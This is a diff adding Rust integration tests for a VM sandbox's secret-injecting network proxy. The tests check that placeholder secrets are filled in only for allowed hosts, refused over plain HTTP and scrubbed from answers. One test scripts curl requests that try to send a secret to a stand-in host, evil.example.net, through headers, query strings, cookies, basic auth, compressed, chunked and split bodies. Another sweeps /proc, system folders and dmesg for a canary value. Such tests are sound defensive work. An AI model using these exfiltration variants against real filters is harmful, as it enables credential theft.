@@ -1,10 +1,24 @@
 //! The guest holds placeholders, the server receives secrets, nobody else does.
 
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use matchlock_testkit::PATIENCE;
+use serde_json::json;
+
 use crate::lab::{API, EVIL, NetLab};
 
 cases![
     the_server_receives_the_secret_that_the_guest_never_had,
     a_placeholder_for_another_host_is_stopped_and_told,
+    headers_queries_and_basic_credentials_are_filled_in,
+    no_value_can_break_out_of_its_place,
+    bodies_are_filled_in_where_that_is_asked_for,
+    a_secret_for_https_is_not_sent_in_clear,
+    answers_are_scrubbed_where_that_is_asked_for,
+    a_placeholder_leaves_for_no_other_host_in_any_form,
+    placeholders_and_values_come_from_where_the_user_says,
+    the_value_is_nowhere_but_at_its_server,
 ];
 
 const SECRET: &str = "sk-live-5f2c81d09a";
@@ -40,4 +54,440 @@ fn a_placeholder_for_another_host_is_stopped_and_told() {
     assert_eq!(lab.origin.requests().len(), 0, "nothing arrived");
     let refused = &lab.events("request")[0];
     assert_eq!(refused["decision"], "denied", "{refused}");
+}
+
+/// What many programs need.
+const SENDING: &str = r"
+import base64, gzip, zlib
+key = os.environ['KEY']
+basic = lambda text: 'Authorization: Basic ' + base64.b64encode(text.encode()).decode()
+encoded = ''.join(f'%{ord(c):02x}' for c in key)
+API, EVIL = 'https://api.example.com', 'https://evil.example.net'
+";
+
+fn headers_queries_and_basic_credentials_are_filled_in() {
+    let lab = NetLab::new();
+    let secret = format!("KEY={SECRET}@{API}");
+    let program = format!(
+        "{SENDING}{}",
+        r"
+for name, arguments in {
+    'bearer': ['-H', f'Authorization: Bearer {key}', API + '/bearer'],
+    'any header': ['-H', f'X-Odd: a{key}b{key}', API + '/header'],
+    'cookie': ['-b', f'session={key}', API + '/cookie'],
+    'query': [f'{API}/query?a=1&key={key}&b=2'],
+    'percent': [f'{API}/percent?key={encoded}'],
+    'basic': ['-u', f'user:{key}', API + '/basic'],
+    'basic user': ['-u', f'{key}:', API + '/basic-user'],
+    'unpadded': ['-H', basic(f'us:{key}').rstrip('='), API + '/unpadded'],
+    'path': [f'{API}/path/{key}'],
+    'plain': ['-H', f'X-Odd: {key}', 'http://api.example.com/plain'],
+    'lower': ['-H', f'X-Odd: {key.lower()}', API + '/lower'],
+    'other': ['-H', f'X-Odd: {key[:-1]}', API + '/cut'],
+}.items():
+    seen[name] = status(arguments[-1], *arguments[:-1])
+seen['key'] = key
+"
+    );
+    let seen = lab.python(&["--secret", &secret], &program, &[]);
+    let key = seen["key"].as_str().expect("text");
+    let requests = lab.origin.requests();
+    let by_path = |path: &str| {
+        let found = requests.iter().find(|request| request.target.starts_with(path));
+        found.unwrap_or_else(|| panic!("{path} in {seen}"))
+    };
+    let header = |path: &str, name: &str| by_path(path).header(name).expect(path).to_owned();
+    assert_eq!(header("/bearer", "authorization"), format!("Bearer {SECRET}"));
+    assert_eq!(header("/header", "x-odd"), format!("a{SECRET}b{SECRET}"));
+    assert_eq!(header("/cookie", "cookie"), format!("session={SECRET}"));
+    assert_eq!(by_path("/query").target, format!("/query?a=1&key={SECRET}&b=2"));
+    assert_eq!(by_path("/percent").target, format!("/percent?key={SECRET}"));
+    assert_eq!(header("/basic", "authorization"), "Basic dXNlcjpzay1saXZlLTVmMmM4MWQwOWE=");
+    assert_eq!(header("/basic-user", "authorization"), "Basic c2stbGl2ZS01ZjJjODFkMDlhOg==");
+    assert_eq!(
+        header("/unpadded", "authorization").trim_end_matches('='),
+        "Basic dXM6c2stbGl2ZS01ZjJjODFkMDlh"
+    );
+    assert_eq!(by_path("/path").target, format!("/path/{key}"), "paths are logged by servers");
+    assert_eq!(header("/plain", "x-odd"), SECRET, "unless it is for https only");
+    assert_eq!(header("/lower", "x-odd"), key.to_lowercase());
+    assert_eq!(header("/cut", "x-odd"), key[..key.len() - 1]);
+    assert_eq!(requests.len(), 12);
+    let used = lab.events("request");
+    assert_eq!(used.iter().filter(|request| request["secrets"] == json!(["KEY"])).count(), 9);
+    assert!(used.iter().all(|request| !request["path"].to_string().contains(SECRET)));
+}
+
+fn no_value_can_break_out_of_its_place() {
+    const ODD: &str = "a b&c=d#e%f+g\"h\u{e9}";
+    let lab = NetLab::new();
+    let program = format!(
+        "{SENDING}{}",
+        r"
+seen['raw'] = status(f'{API}/raw?key={key}')
+seen['percent'] = status(f'{API}/percent?key={encoded}&b=2')
+seen['header'] = status(API + '/header', '-H', f'X-Odd: {key}')
+seen['basic'] = status(API + '/basic', '-u', f'user:{key}')
+"
+    );
+    let secret = format!("KEY={ODD}@{API}");
+    let seen = lab.python(&["--secret", &secret], &program, &[]);
+    let requests = lab.origin.requests();
+    let percent = "a%20b%26c%3Dd%23e%25f%2Bg%22h%C3%A9";
+    for request in &requests {
+        let head = String::from_utf8_lossy(&request.head);
+        let first = head.lines().next().expect("a line");
+        assert_eq!(first.split(' ').count(), 3, "{first}");
+        assert!(!request.target.contains(['#', '"', ' ']), "{first}");
+        if request.target.starts_with("/percent") {
+            assert!(
+                request.target.eq_ignore_ascii_case(&format!("/percent?key={percent}&b=2")),
+                "{first}"
+            );
+        }
+    }
+    assert_eq!((&seen["percent"], &seen["basic"]), (&json!("200"), &json!("200")), "{seen}");
+    assert!(requests.iter().any(|request| request.target == "/basic"));
+}
+
+fn bodies_are_filled_in_where_that_is_asked_for() {
+    let program = format!(
+        "{SENDING}{}",
+        r"
+with open('/tmp/large', 'w') as file:
+    file.write('x' * 65530 + key + 'y' * 100000 + key)
+for name, arguments in {
+    'json': ['--json', json.dumps({'key': key, 'again': key}), API + '/json'],
+    'form': ['-d', f'a=1&key={key}', API + '/form'],
+    'chunked': ['-H', 'Transfer-Encoding: chunked', '-d', f'a=1&key={key}', API + '/chunk'],
+    'large': ['-H', 'Expect:', '--data-binary', '@/tmp/large', API + '/large'],
+    'none': ['-d', 'nothing', API + '/none'],
+}.items():
+    seen[name] = status(arguments[-1], *arguments[:-1])
+seen['key'] = key
+"
+    );
+    for body in [false, true] {
+        let lab = NetLab::new();
+        let secret = format!("KEY={SECRET}@{API}");
+        let mut flags = vec!["--secret", &*secret];
+        flags.extend(body.then_some(["--secret-body", "KEY"]).into_iter().flatten());
+        let seen = lab.python(&flags, &program, &[]);
+        let key = seen["key"].as_str().expect("text");
+        let wanted = if body { SECRET } else { key };
+        let requests: BTreeMap<_, _> =
+            lab.origin.requests().into_iter().map(|r| (r.target.clone(), r)).collect();
+        assert_eq!(requests.len(), 5, "{seen}");
+        for (path, request) in &requests {
+            let text = String::from_utf8_lossy(&request.body);
+            let length = request.header("content-length").map(|length| length.parse::<u64>());
+            if let Some(length) = length {
+                assert_eq!(length, Ok(request.body_length), "{path}");
+            }
+            match &**path {
+                "/json" => {
+                    assert_eq!(text, format!("{{\"key\": \"{wanted}\", \"again\": \"{wanted}\"}}"))
+                }
+                "/form" | "/chunk" => assert_eq!(text, format!("a=1&key={wanted}")),
+                "/none" => assert_eq!(text, "nothing"),
+                _ => assert_eq!(request.body_length, 165_530 + 2 * wanted.len() as u64),
+            }
+        }
+    }
+}
+
+fn a_secret_for_https_is_not_sent_in_clear() {
+    let lab = NetLab::new();
+    let program = format!(
+        "{SENDING}{}",
+        r"
+seen['clear'] = status('http://api.example.com/x', '-H', f'X-Odd: {key}')
+seen['basic'] = status('http://api.example.com/x', '-u', f'user:{key}')
+seen['query'] = status(f'http://api.example.com/x?{key}')
+seen['tls'] = status(API + '/tls', '-H', f'X-Odd: {key}')
+seen['without'] = status('http://api.example.com/without')
+"
+    );
+    let secret = format!("KEY={SECRET}@{API}");
+    let seen = lab.python(&["--secret", &secret, "--secret-https-only", "KEY"], &program, &[]);
+    let stopped = json!("403");
+    assert_eq!((&seen["clear"], &seen["basic"], &seen["query"]), (&stopped, &stopped, &stopped));
+    assert_eq!((&seen["tls"], &seen["without"]), (&json!("200"), &json!("200")));
+    let requests = lab.origin.requests();
+    let paths: Vec<_> = requests.iter().map(|request| &*request.target).collect();
+    assert_eq!(paths, ["/tls", "/without"]);
+    assert_eq!(requests[0].header("x-odd"), Some(SECRET));
+}
+
+fn answers_are_scrubbed_where_that_is_asked_for() {
+    let program = format!(
+        "{SENDING}{}",
+        r"
+for path in ('/echo', '/gzip', '/deflate', '/br', '/zstd'):
+    for name, arguments in {'header': ['-H', f'X-Odd: {key}'], 'basic': ['-u', f'u:{key}'],
+                            'body': ['-d', f'a={key}']}.items():
+        code, text = curl('--http1.1', *arguments, '-H', 'Accept-Encoding: gzip, br, zstd, deflate', '-o', '/tmp/answer',
+                          '-D', '/tmp/head', '-w', '%{http_code}', API + path)
+        with open('/tmp/answer', 'rb') as file:
+            raw = file.read()
+        with open('/tmp/head', 'rb') as file:
+            head = file.read().lower()
+        if b'content-encoding: gzip' in head:
+            raw += gzip.decompress(raw)
+        elif b'content-encoding: deflate' in head:
+            raw += zlib.decompress(raw)
+        seen[f'{path} {name}'] = [code, text, raw.decode('latin-1')]
+code, text = curl('--http1.1', '-d', f'{key}' * 3000, API + '/reflect')
+seen['reflect'] = [code, '200', text]
+seen['key'] = key
+"
+    );
+    for scrub in [true, false] {
+        let lab = NetLab::new();
+        let secret = format!("KEY={SECRET}@{API}");
+        let mut flags = vec!["--secret", &*secret, "--secret-body", "KEY"];
+        flags.extend(scrub.then_some(["--secret-scrub", "KEY"]).into_iter().flatten());
+        let seen = lab.python(&flags, &program, &[]);
+        let (mut plain, mut found) = (0, 0);
+        for (case, got) in seen.as_object().expect("an object") {
+            let Some(text) = got[2].as_str() else { continue };
+            let basic = "dTpzay1saXZlLTVmMmM4MWQwOWE";
+            found += usize::from(text.contains(SECRET) || text.contains(basic));
+            plain += 1;
+            if scrub {
+                assert!(!text.contains(SECRET) && !text.contains(basic), "{case}: {text}");
+                assert_eq!((&got[0], &got[1]), (&json!(0), &json!("200")), "{case}");
+            }
+        }
+        assert_eq!(plain, 16);
+        // Unless it is asked for, what a server sends back is what the guest gets.
+        assert_eq!(found > 6, !scrub, "{seen}");
+        assert_eq!(lab.origin.requests().len(), 16);
+    }
+}
+
+fn a_placeholder_leaves_for_no_other_host_in_any_form() {
+    let lab = NetLab::new();
+    let program = format!(
+        "{SENDING}{}",
+        r"
+with open('/tmp/gz', 'wb') as file:
+    file.write(gzip.compress(f'key={key}'.encode()))
+with open('/tmp/deflate', 'wb') as file:
+    file.write(zlib.compress(f'key={key}'.encode()))
+with open('/tmp/large', 'w') as file:
+    file.write('x' * 65530 + key + 'y' * 70000)
+chunked = ['-H', 'Transfer-Encoding: chunked']
+cases = {
+    'header': ['-H', f'X-Odd: {key}', EVIL + '/header'],
+    'inside a header': ['-H', f'X-Odd: aa{key}bb', EVIL + '/inside'],
+    'user agent': ['-A', key, EVIL + '/agent'],
+    'cookie': ['-b', f's={key}', EVIL + '/cookie'],
+    'basic': ['-u', f'user:{key}', EVIL + '/basic'],
+    'basic user': ['-u', f'{key}:', EVIL + '/basic-user'],
+    'unpadded basic': ['-H', basic(f'us:{key}').rstrip('='), EVIL + '/unpadded'],
+    'proxy basic': ['-H', 'Proxy-' + basic(f'us:{key}'), EVIL + '/proxy'],
+    'query': [f'{EVIL}/query?key={key}'],
+    'percent': [f'{EVIL}/percent?key={encoded}'],
+    'path': [f'{EVIL}/path/{key}'],
+    'percent path': [f'{EVIL}/path/{encoded}'],
+    'half percent path': [f'{EVIL}/path/%53{key[1:]}'],
+    'body': ['-d', f'key={key}', EVIL + '/body'],
+    'json': ['--json', json.dumps({'key': key}), EVIL + '/json'],
+    'multipart': ['-F', f'key={key}', EVIL + '/multipart'],
+    'chunked body': [*chunked, '-d', f'key={key}', EVIL + '/chunked'],
+    'large body': ['-H', 'Expect:', '--data-binary', '@/tmp/large', EVIL + '/large'],
+    'gzip body': ['-H', 'Content-Encoding: gzip', '--data-binary', '@/tmp/gz', EVIL + '/gzip-body'],
+    'deflate body': ['-H', 'Content-Encoding: deflate', '--data-binary', '@/tmp/deflate', EVIL + '/deflate-body'],
+    'plain http': ['-H', f'X-Odd: {key}', 'http://evil.example.net/plain'],
+}
+for name, arguments in cases.items():
+    seen[name] = status(arguments[-1], *arguments[:-1])
+seen['base64 body'] = status(EVIL + '/base64', '-d', base64.b64encode(key.encode()).decode())
+
+# In two parts, of a body and of a chunk.
+def split(first, second):
+    stream = tls('evil.example.net', 443, 'evil.example.net')
+    stream.sendall(first)
+    time.sleep(0.3)
+    try:
+        stream.sendall(second)
+        return read_all(stream)[9:12].decode() or 'closed'
+    except OSError:
+        return 'closed'
+
+head = 'POST /split HTTP/1.1\r\nHost: evil.example.net\r\n'
+seen['two parts'] = outcome(lambda: split(
+    f'{head}Content-Length: {len(key)}\r\n\r\n{key[:20]}'.encode(), key[20:].encode()))
+parts = ''.join(f'1\r\n{c}\r\n' for c in key)
+seen['many chunks'] = outcome(lambda: split(
+    f'{head}Transfer-Encoding: chunked\r\n\r\n'.encode(), f'{parts}0\r\n\r\n'.encode()))
+trailer = f'{head}Transfer-Encoding: chunked\r\nTrailer: x\r\n\r\n'.encode()
+seen['trailer'] = outcome(lambda: split(trailer, f'0\r\nx: {key}\r\n\r\n'.encode()))
+seen['key'] = key
+"
+    );
+    let secret = format!("KEY={SECRET}@{API}");
+    let mut seen = lab.python(&["--secret", &secret, "--allow-host", EVIL], &program, &[]);
+    let key = seen["key"].as_str().expect("text").to_owned();
+    let object = seen.as_object_mut().expect("an object");
+    object.remove("key");
+    // Base64 of a body is no form that a server would read as a secret; see the threat model.
+    object.remove("base64 body");
+    for (case, got) in object.iter() {
+        assert_eq!(got, "403", "{case} in {object:?}");
+    }
+    for request in lab.origin.requests() {
+        let text = format!("{request:?}");
+        assert!(!text.contains(&key) && !text.contains(SECRET), "{text}");
+        assert!(!String::from_utf8_lossy(&request.body).contains(&key), "{}", request.target);
+        if request.target != "/base64" {
+            assert_eq!(
+                request.body_sha256, None,
+                "no body of these is complete: {}",
+                request.target
+            );
+        }
+    }
+    let leaks = lab.events("secret_leak");
+    assert_eq!(leaks.len(), object.len(), "{leaks:?}");
+    assert!(leaks.iter().all(|leak| leak["secret"] == "KEY"), "{leaks:?}");
+    let trail = std::fs::read_to_string(lab.path("audit.jsonl")).expect("read");
+    assert!(!trail.contains(SECRET));
+}
+
+fn placeholders_and_values_come_from_where_the_user_says() {
+    let lab = NetLab::new();
+    let file = lab.path("secrets.json");
+    let text = json!({
+        "FILED": {"value": "from,the;file@x", "placeholder": "sk-ant-placeholder-0001", "hosts": [API]},
+        "SHUT": {"value": "only-over-tls", "hosts": [API], "https_only": true},
+    });
+    std::fs::write(&file, text.to_string()).expect("written");
+    let file = file.display().to_string();
+    let given = format!("GIVEN=va,l=u@e@{API},other.example.org");
+    let inherited = format!("INHERITED@{API}");
+    let flags = [
+        "--secret-file",
+        &file,
+        "--secret",
+        &given,
+        "--secret",
+        &inherited,
+        "--secret-placeholder",
+        "GIVEN=ghp_0123456789abcdefghij",
+    ];
+    let script = format!(
+        "echo $FILED $GIVEN $INHERITED; curl -sS --http1.1 -o /dev/null -H \"A: $FILED\" -H \"B: $GIVEN\" \
+         -H \"C: $INHERITED\" https://{API}/; curl -sS --http1.1 -o /dev/null -w '%{{http_code}}' -H \"D: $SHUT\" http://{API}/"
+    );
+    let invocation = lab.sh(&flags, &script).env("INHERITED", "from-the-environment");
+    let out = invocation.finish().expect(0).out();
+    let line = out.lines().next().expect("a line");
+    assert!(
+        line.starts_with("sk-ant-placeholder-0001 ghp_0123456789abcdefghij SANDBOX_SECRET_"),
+        "{out}"
+    );
+    assert!(out.ends_with("403"), "{out}");
+    let requests = lab.origin.requests();
+    assert_eq!(requests.len(), 1);
+    let header = |name| requests[0].header(name);
+    assert_eq!(header("a"), Some("from,the;file@x"));
+    assert_eq!(header("b"), Some("va,l=u@e"));
+    assert_eq!(header("c"), Some("from-the-environment"));
+}
+
+fn the_value_is_nowhere_but_at_its_server() {
+    const CANARY: &str = "canary-7d1e0b55c9-value";
+    let lab = NetLab::new();
+    let flags = ["--secret", "KEY@api.example.com", "--json"];
+    let program = r"
+key = os.environ['KEY']
+canary = sys.argv[1] + '-' + 'value'
+
+def holders():
+    found = []
+    for folder in os.listdir('/proc'):
+        if not folder.isdigit():
+            continue
+        for part in ('environ', 'cmdline'):
+            try:
+                with open(f'/proc/{folder}/{part}', 'rb') as file:
+                    if canary.encode() in file.read() and folder != str(os.getpid()):
+                        found.append(f'{folder}/{part}')
+            except OSError:
+                pass
+    return found
+
+seen['processes'] = holders()
+seen['status'] = status('https://api.example.com/', '-H', f'Authorization: Bearer {key}')
+seen['wrong'] = status('https://evil.example.net/', '-H', f'Authorization: Bearer {key}')
+seen['refused'] = status('https://api.example.com:81/', '-H', f'Authorization: Bearer {key}')
+places = ['/etc', '/run', '/tmp', '/root', '/home', '/var/tmp', '/var/log', '/dev/shm', '/sys/firmware',
+          '/proc/cmdline', '/proc/keys', '/proc/bootconfig', '/proc/self/mountinfo']
+done = subprocess.run(['grep', '-rIlsF', '-D', 'skip', '-e', canary, *places], capture_output=True)
+seen['files'] = done.stdout.decode()
+dmesg = subprocess.run(['dmesg'], capture_output=True).stdout
+seen['kernel'] = canary.encode() in dmesg
+seen['processes after'] = holders()
+";
+    let invocation = lab.program(&flags, program, &["canary-7d1e0b55c9"]);
+    let running = invocation.env("KEY", CANARY).spawn();
+    let pid = running.pid();
+    let mut shown = Vec::new();
+    // What other users of the host can see of us and of the VMM.
+    while Path::new(&format!("/proc/{pid}/cmdline")).exists() && lab.origin.requests().is_empty() {
+        shown = command_lines();
+        if shown.iter().any(|line| line.contains(CANARY)) {
+            break;
+        }
+        std::thread::yield_now();
+    }
+    assert!(!shown.iter().any(|line| line.contains(CANARY)), "{shown:?}");
+    let home: Vec<_> = files(lab.home());
+    for file in &home {
+        let text = std::fs::read(file).unwrap_or_default();
+        assert!(!contains(&text, CANARY), "{}", file.display());
+    }
+    let finished = running.finish(PATIENCE).expect(0);
+    assert!(!finished.out().contains(CANARY) && !finished.err().contains(CANARY));
+    let seen: serde_json::Value = serde_json::from_str(&finished.out()).expect("JSON");
+    assert_eq!(
+        seen,
+        json!({
+            "processes": [], "status": "200", "wrong": "curl 6", "refused": "curl 7", "files": "",
+            "kernel": false, "processes after": [],
+        })
+    );
+    for file in files(lab.home()) {
+        let text = std::fs::read(&file).unwrap_or_default();
+        assert!(!contains(&text, CANARY), "{}", file.display());
+    }
+    let trail = std::fs::read(lab.path("audit.jsonl")).expect("read");
+    assert!(!contains(&trail, CANARY));
+    assert_eq!(lab.origin.last().header("authorization"), Some(&*format!("Bearer {CANARY}")));
+}
+
+fn contains(bytes: &[u8], text: &str) -> bool {
+    bytes.windows(text.len()).any(|window| window == text.as_bytes())
+}
+
+/// The command lines of all processes.
+fn command_lines() -> Vec<String> {
+    let processes = std::fs::read_dir("/proc").expect("processes").flatten();
+    let lines = processes.filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
+    lines.map(|line| String::from_utf8_lossy(&line).into_owned()).collect()
+}
+
+fn files(folder: &Path) -> Vec<std::path::PathBuf> {
+    let mut found = Vec::new();
+    for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
+        let path = entry.path();
+        match entry.file_type() {
+            Ok(kind) if kind.is_dir() => found.extend(files(&path)),
+            Ok(kind) if kind.is_file() => found.push(path),
+            _ => {}
+        }
+    }
+    found
 }
